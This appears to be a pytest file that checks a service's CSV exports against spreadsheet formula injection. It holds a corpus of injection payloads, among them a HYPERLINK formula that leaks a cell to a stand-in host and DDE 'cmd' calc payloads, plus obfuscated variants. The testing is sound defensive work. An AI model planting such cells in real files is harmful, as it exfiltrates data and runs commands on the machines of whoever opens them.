"""Every CSV that leaves, with a corpus of what spreadsheets take for a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import httpx
import pytest

from api.reconciliations.schemas import csv_lines
from domain import ledger
from domain.money import Money
from domain.outgoing_csv import csv_text, guarded
from domain.reconciliation import Filed
from store.database import Database
from store.tables import ReconciliationItem
from tests.api.api_bodies import made, person, redemption_body, share
from tests.api.exports.test_exports import rows_of
from tests.api.orders.test_orders import add_order
from tests.builders import add_campaign, add_grant, budget, gift_card, terms

CORPUS = [
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " \t =1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
]
HARMLESS = ["-12", "+15550987600", "12.50", "-0,5", "Jane = Doe", "a@b.example", "1-2", "'=x", ""]


def _dangerous(cell: str) -> bool:
    """Whether a spreadsheet would compute it: by another reading than the product's own."""
    shown = re.sub(r"^[^\w=+\-@\uff1d\uff0b\uff0d\uff20'\"{]+", "", cell)
    return bool(re.match(r"[=+\-@\uff1d\uff0b\uff0d\uff20]", shown)) and not re.fullmatch(
        r"[+-]?[\d.,]+", cell
    )


def _cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


class TestTheRule:
    @pytest.mark.parametrize("text", CORPUS)
    def test_a_formula_becomes_text(self, text: str) -> None:
        assert _dangerous(text)
        assert guarded(text) == f"'{text}"
        assert not [
            each
            for each in _cells(csv_text([text], [{text: text}], header=True))
            if _dangerous(each)
        ]

    @pytest.mark.parametrize("value", [*HARMLESS, -1500, 12, None, True])
    def test_a_text_that_is_no_formula_stays_as_it_is(self, value: object) -> None:
        assert guarded(value) == value


class TestFiles:
    async def test_of_customers_in_names_and_columns(self, service: httpx.AsyncClient) -> None:
        for text in CORPUS:
            jane = person(name=text, description=text, metadata={"note": text, text.strip(): 1})
            await made(service.post("/v1/customers", json=jane))
        fields = ["id", "name", "description", "metadata", "metadata.note", "metadata.=1+1"]
        found = await rows_of(service, "customer", fields=fields)
        assert len(found) == len(CORPUS)
        assert {row["name"].lstrip("'") for row in found} >= {"=", "+1+1"}
        cells = {cell for row in found for pair in row.items() for cell in pair}
        assert [cell for cell in cells if _dangerous(cell)] == []

    async def test_of_harmless_text_it_is_the_text(self, service: httpx.AsyncClient) -> None:
        for text in filter(None, HARMLESS):
            await made(service.post("/v1/customers", json=person(description=text)))
        found = await rows_of(service, "customer", fields=["description"])
        assert {row["description"] for row in found} == {*filter(None, HARMLESS)}

    async def test_of_redemptions_publications_and_codes(self, service: httpx.AsyncClient) -> None:
        for text in CORPUS[:6]:
            name = text.replace("/", "")
            shared = await share(service, name=f"{name} {len(text)}")
            friend = person(name=text)
            body = redemption_body(shared.code, friend, metadata={"note": text})
            await made(service.post("/v1/redemptions", json=body | {"tracking_id": text}))
        for kind in ("redemption", "publication", "voucher"):
            fields = ["id", "campaign", "metadata.note"]
            fields += ["customer_name", "tracking_id"] if kind == "redemption" else []
            found = await rows_of(service, kind, fields=fields)
            assert len(found) >= 6
            cells = {cell for row in found for cell in row.values()}
            assert [cell for cell in cells if _dangerous(cell)] == []
            assert [cell for cell in cells if cell.startswith("'")]

    async def test_of_the_ledger_the_orders_and_the_reports(
        self, finance: httpx.AsyncClient, database: Database
    ) -> None:
        for number, text in enumerate(CORPUS):
            of = terms(referee_reward=None, limits=budget(10_00))
            await add_campaign(database, of, name=f"{text} {number}")
            async with database.transaction() as tx:
                tx.post(ledger.deposit(text, f"{number}", Money(amount=100, currency="USD")))
            grant = await add_grant(database, gift_card())
            await add_order(database, grant, provider_order_id=text, raw_status=text)
        for path in ("/v1/ledger/transactions", "/v1/gift-card-orders", "/v1/reports/budgets"):
            answer = await finance.get(path, headers={"Accept": "text/csv"})
            assert answer.status_code == 200, answer.text
            cells = list(_cells(answer.text))
            assert [cell for cell in cells if _dangerous(cell)] == []
            assert any(cell.startswith("'=") for cell in cells)

    def test_of_a_reconciliation(self) -> None:
        items = [
            ReconciliationItem(
                id=str(number),
                reconciliation_id="rec_1",
                filed=Filed.UNKNOWN_TO_US,
                key=text,
                provider_order_id=text,
            )
            for number, text in enumerate(CORPUS)
        ]
        cells = list(_cells(csv_lines(items, header=True)))
        assert [cell for cell in cells if _dangerous(cell)] == []
        assert len([cell for cell in cells if cell.startswith("'")]) == 2 * len(CORPUS)
